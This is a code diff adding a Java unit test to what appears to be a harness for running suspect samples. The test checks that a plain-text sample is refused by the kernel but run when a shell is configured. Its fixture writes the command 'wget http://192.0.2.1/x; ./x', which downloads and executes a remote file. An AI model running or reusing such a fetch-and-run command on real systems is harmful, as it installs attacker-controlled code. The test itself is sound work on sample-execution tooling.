@@ -142,6 +142,19 @@ class ExperimentTest extends ExperimentFixture {
     assertThat(results()).filteredOn(Result::tolerated).extracting(Result::sample).hasSize(1);
   }
 
+  @Test
+  void aTextWithoutAnInterpreterIsRunWhenAShellIsToRunIt() throws IOException {
+    Files.writeString(corpus.resolve("e-text"), "wget http://192.0.2.1/x; ./x\n");
+    Result byKernel = only(it -> it.option(RunOptions.SAMPLE, "e-text"));
+    assertThat(byKernel.verdict().cause()).hasToString("Optional[not an executable format: text]");
+    Result byShell =
+        only(it -> it.option(RunOptions.SAMPLE, "e-text").option(RunOptions.SCRIPTS_BY_SHELL, "shell"));
+    assertThat(byShell.verdict().cause()).hasToString("Optional[exit status: 6]");
+    assertThat(byShell.facts().fileType()).isEqualTo("text");
+    assertThat(onlyFailure(run(it -> it.option(RunOptions.SCRIPTS_BY_SHELL, "ash"))))
+        .contains("-Dscripts=ash", "neither kernel nor shell");
+  }
+
   private Path evidence(Result result) throws IOException {
     return latest().evidence(result).folder();
   }
